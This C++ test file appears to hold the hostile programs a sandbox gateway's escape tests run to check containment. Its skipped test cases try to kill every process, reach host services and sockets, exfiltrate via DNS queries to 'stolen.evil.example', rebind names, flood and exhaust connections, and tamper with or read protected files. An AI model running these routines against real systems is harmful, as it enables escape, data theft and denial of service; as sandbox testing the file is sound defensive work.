// The programs that escape_test.cpp runs in the sandbox. They say what they could do; who judges is outside.
#include <doctest/doctest.h>
#include <fcntl.h>
#include <netdb.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "gateway/base/endpoint.hpp"
#include "gateway/tls/openssl_handles.hpp"
#include "tests/support/attack_tools.hpp"
#include "tests/support/outside_recorder.hpp"
#include "tests/support/packet_attacks.hpp"

using namespace sallyport;
using namespace sallyport::test;

namespace {

std::vector<std::string> words(const char* variable) {
    const char* text = std::getenv(variable);
    std::istringstream in(text ? text : "");
    return {std::istream_iterator<std::string>(in), {}};
}

UniqueFd unix_socket(const std::string& name, bool listening) {
    UniqueFd fd(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    name.copy(address.sun_path, sizeof address.sun_path - 1);
    if (name[0] == '@') address.sun_path[0] = '\0';
    const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size() + (name[0] == '@' ? 0 : 1));
    const auto* plain = reinterpret_cast<const sockaddr*>(&address);
    const bool done = listening ? ::bind(fd.get(), plain, size) == 0 && ::listen(fd.get(), 8) == 0
                                : ::connect(fd.get(), plain, size) == 0;
    if (!done) fd.reset();
    return fd;
}

/// A connection to HOST:PORT, by the sandbox's own name service; empty when there is none.
UniqueFd connect_to(const std::string& host, const std::string& port) {
    addrinfo hints{}, *found = nullptr;
    hints.ai_socktype = SOCK_STREAM;
    if (::getaddrinfo(host.c_str(), port.c_str(), &hints, &found) != 0) return {};
    const std::unique_ptr<addrinfo, decltype(&freeaddrinfo)> owner(found, freeaddrinfo);
    UniqueFd fd(::socket(found->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0));
    const timeval limit{30, 0};  // behind thousands of others, with sanitizers
    ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (::connect(fd.get(), found->ai_addr, found->ai_addrlen) != 0) fd.reset();
    return fd;
}

std::string request(const std::string& host) {
    return "GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n";
}

/// "HTTP/1.1 502", or "" when the answer is none.
std::string get(const std::string& address, const std::string& port, const std::string& host) {
    const auto fd = connect_to(address, port);
    const auto text = request(port == "80" ? host : host + ":" + port);
    if (!fd || ::send(fd.get(), text.data(), text.size(), MSG_NOSIGNAL) < 0) return {};
    char answer[13] = {};
    (void)!::recv(fd.get(), answer, 12, MSG_WAITALL);
    return answer;
}

std::string get_tls(const std::string& address, const std::string& host) {
    const auto fd = connect_to(address, "443");
    const tls::SslCtxPtr context(SSL_CTX_new(TLS_client_method()));
    const tls::SslPtr ssl(SSL_new(context.get()));
    SSL_set_fd(ssl.get(), fd.get());
    SSL_set_tlsext_host_name(ssl.get(), host.c_str());
    if (!fd || SSL_connect(ssl.get()) != 1) return {};
    const auto text = request(host);
    SSL_write(ssl.get(), text.data(), static_cast<int>(text.size()));
    char answer[13] = {};
    SSL_read(ssl.get(), answer, 12);
    return answer;
}

volatile sig_atomic_t asked_to_end = 0;

}  // namespace

TEST_CASE("attack: signals" * doctest::skip()) {
    ::getaddrinfo("signalled.evil.example", "80", nullptr, nullptr);
    for (int number = 1; number < 65; ++number) {
        const bool stops = number >= SIGCONT && number <= SIGTTOU;
        struct sigaction ignore {};
        ignore.sa_handler = SIG_IGN;
        ::sigaction(number, &ignore, nullptr);
        if (!stops) ::kill(0, number);
    }
    ::kill(-1, SIGTERM);
    ::kill(1, SIGKILL);
    std::printf("alive\n");
    std::fflush(nullptr);
    ::_exit(0);  // the gateway sends us what it was sent, which the test runner no longer ignores at its end
}

/// A program outside, with sockets in the file system and in its network namespace.
TEST_CASE("attack: listener" * doctest::skip()) {
    std::vector<pollfd> sockets;
    for (const auto& name : words("SOCKETS")) sockets.push_back({unix_socket(name, true).release(), POLLIN, 0});
    ::signal(SIGTERM, [](int) { asked_to_end = 1; });
    std::printf("listening\n");
    std::fflush(nullptr);
    while (!asked_to_end) ::pause();
    ::poll(sockets.data(), sockets.size(), 0);
    for (std::size_t i = 0; i < sockets.size(); ++i)
        if (sockets[i].revents) std::printf("visited %s\n", words("SOCKETS")[i].c_str());
}

TEST_CASE("attack: services" * doctest::skip()) {
    const auto port = std::to_string(Outside::kServicePort);
    for (const auto* address : {"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", Outside::kAddress}) {
        connect_to(address, port);
        const UniqueFd udp(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
        sockaddr_storage storage{};
        const auto to = IpAddress::parse(address);
        if (!to || to->is_v6()) continue;
        const auto size = Endpoint{*to, Outside::kServicePort}.to_sockaddr(storage);
        ::sendto(udp.get(), "escape", 6, 0, reinterpret_cast<sockaddr*>(&storage), size);
    }
    for (const auto& name : words("SOCKETS")) unix_socket(name, false);
}

TEST_CASE("attack: names" * doctest::skip()) {
    std::set<std::uint16_t> types = {32768, 32769, 65280, 65535};
    for (std::uint16_t type = 0; type < 262; ++type) types.insert(type);
    for (const auto type : types)
        for (const auto* suffix : {".evil.example", ".good.example", ".arpa", ""})
            send_udp(target4(52, 53), dns_question("stolen-" + std::to_string(type) + suffix, type, false));
    for (int opcode = 1; opcode < 16; ++opcode) {
        auto question = dns_question("stolen.evil.example", 1, false);
        question[2] = static_cast<char>(opcode << 3);
        send_udp(target4(53, 53), question);
    }
    for (const int type : {1, 16, 252, 255, 65535}) {
        const auto to = target4(54, 53);
        const UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
        ::connect(fd.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
        const auto question = dns_question("stolen.evil.example", static_cast<std::uint16_t>(type), true);
        (void)!::send(fd.get(), question.data(), question.size(), MSG_NOSIGNAL);
        pollfd answer{fd.get(), POLLIN, 0};
        ::poll(&answer, 1, std::getenv("WAIT") ? 5000 : 0);
    }
    if (std::getenv("WAIT")) std::printf("%s\n", connect_to("good.example", "80") ? "resolved" : "not resolved");
}

TEST_CASE("attack: rebinding" * doctest::skip()) {
    for (const auto& host : words("HOSTS"))
        for (const auto* port : {"80", "7777"})
            std::printf("%s:%s %s\n", host.c_str(), port, get(host, port, host).c_str());
}

TEST_CASE("attack: another address" * doctest::skip()) {
    std::printf("plain %s\n", get("198.51.100.55", "80", "good.example").c_str());
    std::printf("tls %s\n", get_tls("198.51.100.56", "good.example").c_str());
}

TEST_CASE("attack: flood" * doctest::skip()) {
    for (unsigned round = 0;; ++round) {
        send_udp(target4(60, 9), marker(60));
        start_tcp(target4(61, 443));
        send_udp(target4(62, 53), dns_question("stolen.evil.example", 16, false));
        if (round % 50 != 0) continue;
        std::printf("round\n");
        std::fflush(nullptr);
    }
}

TEST_CASE("attack: exhaustion" * doctest::skip()) {
    for (int i = 0; i < 10'000; ++i) {
        start_tcp(target4(63, static_cast<std::uint16_t>(1 + i)));
        send_udp(target4(64, 53), dns_question("n" + std::to_string(i) + ".evil.example", 1, false));
    }
    std::vector<UniqueFd> held;  // as many as we may have, silent, all at once
    for (UniqueFd fd = connect_to("198.51.100.65", "443"); fd && held.size() < 900; held.push_back(std::move(fd)))
        if (held.size() > 1) fd = connect_to("198.51.100.65", "443");
    held.clear();
    std::printf("%s\n", get("good.example", "80", "good.example").c_str());
}

namespace {

void forge(const std::string& who, const std::string& file) {
    std::error_code failed;
    report_success(who + " wrote to " + file, !!(std::ofstream(file, std::ios::app) << "forged\n" << std::flush));
    report_success(who + " emptied " + file, ::truncate(file.c_str(), 0) == 0);
    report_success(who + " made writable " + file, ::chmod(file.c_str(), 0777) == 0);
    report_success(who + " removed " + file, ::unlink(file.c_str()) == 0);
    report_success(who + " moved " + file, ::rename(file.c_str(), (file + ".old").c_str()) == 0);
    report_success(who + " moved a file over " + file, !!std::ofstream("new") && ::rename("new", file.c_str()) == 0);
    const auto directory = std::filesystem::absolute(file).parent_path();
    std::filesystem::rename(directory, directory.string() + "-moved", failed);
    report_success(who + " moved the directory of " + file, !failed);
}

}  // namespace

TEST_CASE("attack: forgery" * doctest::skip()) {
    for (const auto& file : words("FILES")) forge("the command", file);
    std::fflush(nullptr);
    from_nested_namespace([] {
        for (const auto& file : words("FILES")) forge("a nested namespace", file);
    });
    for (const auto& file : words("FILES")) {
        std::stringstream text;
        text << std::ifstream(file).rdbuf();
        report_success("read the secret in " + file, text.str().find("the-real-secret") != std::string::npos);
    }
    send_udp(target4(66, 53), dns_question("seen.evil.example", 1, false));
    ::getaddrinfo("seen.evil.example", "80", nullptr, nullptr);
}
